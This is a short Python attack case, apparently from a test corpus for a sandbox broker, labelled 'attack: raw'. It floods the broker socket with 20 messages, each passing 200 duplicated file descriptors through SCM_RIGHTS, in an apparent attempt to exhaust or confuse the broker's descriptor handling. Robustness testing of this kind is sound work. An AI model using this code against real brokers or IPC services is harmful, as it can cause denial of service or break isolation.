# attack: raw | sends open descriptors along with its words
import json, os, struct
def send(body, payload=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.write(BROKER_FD, struct.pack("<II", len(body), len(payload)) + body + payload)
import array, socket
guest = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, os.dup(BROKER_FD))
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [BROKER_FD] * 200))]
for _ in range(20):
    guest.sendmsg([struct.pack("<II", 22, 0) + b'{"op":"log","line":""}'], rights)
